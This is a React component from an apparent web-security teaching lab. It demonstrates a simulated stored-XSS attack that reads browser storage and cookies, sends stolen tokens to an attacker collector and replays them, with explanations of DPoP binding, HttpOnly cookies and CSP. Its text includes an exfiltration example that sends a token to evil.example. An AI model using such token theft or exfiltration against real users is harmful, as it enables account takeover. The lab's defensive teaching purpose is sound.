import { useState } from 'react';
import type { LabRequests, LabResult, Loot, Replay, ReplayAttempt } from '../api/lab-requests';
import { decodeJwt } from '../../../lib/jwt';
import { runXssPayload, type XssOutcome } from '../xss-demo';
import type { FoundToken } from '../xss-payload';
import { AnswerLine } from './AnswerLine';

type Run = { state: 'idle' } | { state: 'running' } | { state: 'failed'; message: string } | { state: 'done'; outcome: XssOutcome };

const TOKEN_KIND: Record<string, string> = { 'at+jwt': 'access token', 'rt+jwt': 'refresh token' };

export function XssSection({ lab, nudge }: { lab: LabRequests; nudge: () => Promise<unknown> }) {
  const [run, setRun] = useState<Run>({ state: 'idle' });
  const [replaying, setReplaying] = useState(false);

  async function start() {
    setRun({ state: 'running' });
    const result = await runXssPayload(lab, nudge);
    setRun(result.ok ? { state: 'done', outcome: result.value } : { state: 'failed', message: result.message });
  }

  async function replayAgain(outcome: XssOutcome) {
    setReplaying(true);
    const replay = await lab.replay(outcome.attacker, outcome.loot.id);
    setReplaying(false);
    setRun({ state: 'done', outcome: { ...outcome, replay } });
  }

  return (
    <div className="lab-part" aria-labelledby="xss-title" role="group">
      <h3 id="xss-title">Injected script (stored XSS)</h3>
      <p>
        Suppose a comment on this page smuggled in a script. This app's Content-Security-Policy refuses inline scripts, so here the
        button runs the same code as if one had got through: in this page, with this page's rights. It reads{' '}
        <code>localStorage</code>, <code>sessionStorage</code>, <code>document.cookie</code> and IndexedDB, wraps{' '}
        <code>fetch</code> to catch the credential of the page's next request, calls the refresh route with whatever the page
        would send, acts as you from the page, sends what it got to the attacker's collector, and the attacker replays any token
        from its own server.
      </p>
      <button type="button" disabled={run.state === 'running'} onClick={() => void start()}>
        Run XSS payload
      </button>
      {(run.state === 'running' || run.state === 'done') && (
        <p role="status" className="lab-status">
          {run.state === 'running' ? 'The payload is running…' : summary(run.outcome)}
        </p>
      )}
      {run.state === 'failed' && (
        <p role="alert" className="notice error">
          {run.message}
        </p>
      )}
      {run.state === 'done' && <XssReport outcome={run.outcome} replaying={replaying} onReplay={() => void replayAgain(run.outcome)} />}
    </div>
  );
}

function summary({ tokens, replay }: XssOutcome): string {
  const replayed = replay.ok && replay.value.attempts.some((attempt) => attempt.status === 200);
  if (tokens.length > 0) return `Stolen: ${tokens.length} token${tokens.length === 1 ? '' : 's'}. The attacker's replay ${replayed ? 'worked' : 'was refused'}.`;
  return `No token stolen. The attacker's replay ${replayed ? 'worked' : 'was refused'}.`;
}

function XssReport({ outcome, replaying, onReplay }: { outcome: XssOutcome; replaying: boolean; onReplay: () => void }) {
  const { loot, tokens, attacker } = outcome;
  return (
    <>
      <h4>What left the page</h4>
      <p>
        The collector at <code>{attacker}/collect</code> received this as loot #{loot.id}, from <code>{loot.from ?? 'an unknown page'}</code>:
      </p>
      <LootTable loot={loot} tokens={tokens} />
      <Verdict outcome={outcome} />
      <h4>The attacker replays it from its own server</h4>
      <ReplayReport replay={outcome.replay} />
      <button type="button" className="secondary" disabled={replaying} onClick={onReplay}>
        Replay the stolen token again
      </button>
      <SessionRiding outcome={outcome} />
      <h4>Why the page's CSP let it out</h4>
      <p>
        While the lab is on, the server adds the attacker's site to this page's <code>connect-src</code>, so that this demo's{' '}
        <code>fetch</code> may reach <code>{attacker}</code>. Without that entry the browser would have blocked this one channel. A
        strict <code>connect-src</code> is worth having, but it is not a wall: a script that runs can still leak by navigating (
        <code>location = 'https://evil.example/?' + token</code>) or by opening a window, and <code>connect-src</code> governs
        neither. The defence that counts is that no attacker script runs at all.
      </p>
    </>
  );
}

function LootTable({ loot, tokens }: { loot: Loot; tokens: FoundToken[] }) {
  const rows = lootRows(loot.data);
  return (
    <table className="loot">
      <caption className="hint">Exactly what the collector recorded</caption>
      <thead>
        <tr>
          <th scope="col">Where</th>
          <th scope="col">Value</th>
        </tr>
      </thead>
      <tbody>
        {rows.map(({ where, value }) => {
          const token = tokens.find((found) => found.where === where);
          return (
            <tr key={where}>
              <th scope="row">
                <code>{where}</code>
                {token && <span className="stolen"> {TOKEN_KIND[token.typ ?? ''] ?? 'a token'}</span>}
              </th>
              <td>{value === '' ? <span className="hint">(empty)</span> : <code>{value}</code>}</td>
            </tr>
          );
        })}
      </tbody>
    </table>
  );
}

/** localStorage["key"] rows for each storage entry, one row for document.cookie, "(nothing)" for an empty storage. */
function lootRows(data: Record<string, unknown>): { where: string; value: string }[] {
  return Object.entries(data).flatMap(([area, content]) => {
    if (typeof content === 'string') return [{ where: area, value: content }];
    const entries = typeof content === 'object' && content !== null ? Object.entries(content) : [];
    if (entries.length === 0) return [{ where: area, value: '' }];
    if (Array.isArray(content)) return content.map((value, index) => ({ where: `${area}[${index}]`, value: JSON.stringify(value) }));
    return entries.map(([key, value]) => ({ where: `${area}[${JSON.stringify(key)}]`, value: typeof value === 'string' ? value : JSON.stringify(value) }));
  });
}

function Verdict({ outcome }: { outcome: XssOutcome }) {
  const { tokens, storage } = outcome;
  const keys = storage.indexedDB;
  if (tokens.length > 0) {
    const kinds = [...new Set(tokens.map((token) => TOKEN_KIND[token.typ ?? ''] ?? 'token'))].join(' and the ');
    // Bound tokens (DPoP) name their key in cnf; the replay shows what that is worth away from the page.
    const bound = tokens.some((token) => token.typ === 'at+jwt' && decodeJwt(token.value)?.claims.cnf !== undefined);
    return (
      <p className={bound ? 'notice' : 'notice error'}>
        <strong>Stolen: the {kinds}.</strong> Found at{' '}
        {tokens.map((token, index) => (
          <span key={token.value}>
            {index > 0 && ', '}
            <code>{token.where}</code>
          </span>
        ))}
        .{' '}
        {bound
          ? 'They are bound to a key that stays in this browser: without a proof signed by it, the server refuses them.'
          : 'The attacker can use them from anywhere until they expire or the session is logged out; with a refresh token it can even mint new access tokens.'}
        {keys.length > 0 &&
          ` The script found the key too (${keys.map((key) => (key.exportRefused ? `export refused: ${key.exportRefused}` : 'exported!')).join('; ')}).`}
      </p>
    );
  }
  return (
    <p className="notice">
      <strong>No token stolen.</strong> No script could read one: the tokens are in HttpOnly cookies (or there is no session to
      take; log in first to see one stolen). A CSRF token the script read is not a credential: from the attacker's own server it is
      useless without your cookies, which stay in your browser.
    </p>
  );
}

const REPLAY_HOW: Record<ReplayAttempt['credential'], string> = {
  bearer: 'with Authorization: Bearer and the token from',
  'dpop-without-proof': 'with Authorization: DPoP and no proof (it has no key of yours), the token from',
  'dpop-with-attacker-proof': "with Authorization: DPoP and a proof signed by the attacker's own key, the token from",
  none: 'with no credential at all: nothing usable was stolen',
};

function ReplayReport({ replay }: { replay: LabResult<Replay> }) {
  if (!replay.ok) return <p role="alert">{replay.message}</p>;
  const { target, attempts } = replay.value;
  return (
    <ul className="replay">
      {attempts.map((attempt, index) => (
        <li key={index}>
          <code>GET {target}</code> {REPLAY_HOW[attempt.credential]} {attempt.tokenFrom && <code>{attempt.tokenFrom}</code>}, and no
          cookie (a server is not your browser). The app answered: <AnswerLine status={attempt.status} answer={attempt.answer} />
          {attempt.challenge && (
            <>
              {' '}
              (<code>WWW-Authenticate: {attempt.challenge}</code>)
            </>
          )}
          <p className="hint">
            {attempt.status === 200
              ? 'The stolen token works for the attacker exactly as for you. Log out (or wait for it to expire), then replay it again: the server refuses it.'
              : 'The attacker holds nothing the API accepts.'}
          </p>
        </li>
      ))}
    </ul>
  );
}

function SessionRiding({ outcome }: { outcome: XssOutcome }) {
  const { caught, refreshed, acted, actedLoot } = outcome;
  return (
    <>
      <h4>And the script runs inside your page: session riding</h4>
      <p>
        {caught
          ? `It wrapped fetch and caught the page's own ${caught.request}: ${caught.authorization ? `Authorization: ${caught.authorization.split(' ')[0]} …` : 'no Authorization header (the browser adds the cookie itself)'}${caught.dpop ? ', with its DPoP proof' : ''}.`
          : 'It wrapped fetch, but the page sent no API request while it waited.'}{' '}
        It called <code>{refreshed.request}</code> with {refreshed.using}: <AnswerLine status={refreshed.status} answer={refreshed.answer} />
      </p>
      <p>
        Then it asked <code>{acted.request}</code> from this page using {acted.using}. The app answered:{' '}
        <AnswerLine status={acted.status} answer={acted.answer} />
      </p>
      <p>
        {actedLoot.ok ? `The script forwarded that answer to the collector too (loot #${actedLoot.value.id}). ` : ''}
        These requests used <code>fetch</code> directly, so they are not in the Request log. No storage strategy stops a script
        running in the page from acting as you while the page is open; they differ in whether a token leaves with it and outlives the
        page. Only keeping scripts out (output encoding, a CSP without <code>'unsafe-inline'</code>) stops this.
      </p>
    </>
  );
}
